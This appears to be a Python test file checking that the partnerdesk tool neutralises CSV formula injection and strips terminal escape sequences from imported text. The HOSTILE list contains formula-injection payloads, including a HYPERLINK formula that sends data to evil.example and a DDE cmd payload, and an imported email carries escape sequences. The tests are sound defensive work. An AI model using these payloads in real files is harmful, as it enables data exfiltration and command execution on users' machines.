"""What leaves partnerdesk is safe to open (issue 8, item 7): CSV cells that a spreadsheet would
run as formulas are neutralised in every CSV partnerdesk writes, and control characters from
stored text never reach the terminal raw (an imported '\\x1b]0;…\\x07' retitled it)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from hypothesis import given
from hypothesis import strategies as st

from partnerdesk.services.exports import export
from partnerdesk.services.safe_text import FORMULA_STARTS, TerminalWriter, csv_cell
from partnerdesk.store.journal import Journal
from tests.helpers import draft, run_cli

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd",
           "\t=1+1", "\r=1+1"]


def _journal(path) -> None:
    with Journal.open(path) as j:
        v = j.vendors.add("@Evil Corp")
        j.contacts.add(v.id, "=Dana")
        for k, text in enumerate(HOSTILE):
            j.interactions.add(draft(v.id, text.strip() or "x", at=datetime(2025, 3, k + 1, tzinfo=UTC),
                                     notes=text))


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def test_csv_exports_neutralise_formula_cells(tmp_path):
    _journal(tmp_path / "j.sqlite3")
    with Journal.open(tmp_path / "j.sqlite3") as j:
        for what in ("interactions", "vendors", "contacts"):
            out = tmp_path / f"{what}.csv"
            export(j, out, what, "csv")
            cells = _cells(out.read_text(encoding="utf-8-sig"))
            assert not [c for c in cells if c.startswith(FORMULA_STARTS)], what
            assert any(c.startswith("'") for c in cells), what
    cells = _cells((tmp_path / "interactions.csv").read_text(encoding="utf-8-sig"))
    assert "'" + HOSTILE[0] in cells  # the text itself is kept behind the apostrophe


def test_cli_csv_output_neutralises_formula_cells(tmp_path):
    _journal(tmp_path / "j.sqlite3")
    done = run_cli(["list", "--format", "csv"], tmp_path / "j.sqlite3")
    assert done.returncode == 0, done.stderr
    cells = _cells(done.stdout)
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert "'-2+3" in cells


def test_a_reimported_export_gets_its_text_back(tmp_path):
    from partnerdesk.services.importers import apply_import, plan_import

    _journal(tmp_path / "j.sqlite3")
    with Journal.open(tmp_path / "j.sqlite3") as j:
        export(j, tmp_path / "out.csv", "interactions", "csv")
    with Journal.open(tmp_path / "k.sqlite3") as k:
        k.vendors.add("@Evil Corp")
        apply_import(k, plan_import(k, [tmp_path / "out.csv"], vendor="@Evil Corp"))
        assert {i.summary for i in k.interactions.list()} == {t.strip() for t in HOSTILE}
        assert {i.notes.strip() for i in k.interactions.list()} == {t.strip() for t in HOSTILE}


@given(st.text(max_size=30))
def test_no_cell_starts_like_a_formula_and_the_text_is_kept(text):
    cell = csv_cell(text)
    assert not cell.startswith(FORMULA_STARTS) and "\r" not in cell
    flat = text.replace("\r\n", "\n").replace("\r", "\n")
    assert cell in (flat, "'" + flat)


@given(st.text(max_size=40))
def test_the_terminal_writer_lets_no_control_character_through(text):
    out = io.StringIO()
    TerminalWriter(out).write(text)
    written = out.getvalue()
    assert not [ch for ch in written if (ord(ch) < 0x20 and ch not in "\n\t") or 0x7F <= ord(ch) < 0xA0]


def test_an_imported_escape_sequence_is_shown_not_obeyed(tmp_path):
    mail = (b"From: Dana <dana@acme.com>\r\nTo: me@reseller.com\r\n"
            b"Subject: Pricing \x1b]0;pwned\x07 \x1b[2J update\r\n"
            b"Date: Tue, 04 Mar 2025 10:00:00 +0000\r\nMessage-ID: <esc@acme.com>\r\n\r\nHello \x1b[31mred\r\n")
    (tmp_path / "m.eml").write_bytes(mail)
    db = tmp_path / "j.sqlite3"
    assert run_cli(["vendor", "add", "Acme", "--domain", "acme.com"], db).returncode == 0
    for argv in (["import", str(tmp_path / "m.eml"), "--dry-run"], ["import", str(tmp_path / "m.eml")],
                 ["list"], ["search", "red"]):
        done = run_cli(argv, db)
        assert done.returncode == 0, done.stderr
        assert "\x1b" not in done.stdout and "\x07" not in done.stdout, argv
        assert "\x1b" not in done.stderr
    preview = run_cli(["import", str(tmp_path / "m.eml"), "--dry-run"], tmp_path / "other.sqlite3",
                      env={"PARTNERDESK_DB": str(tmp_path / "other.sqlite3")})
    assert "\x1b" not in preview.stdout + preview.stderr
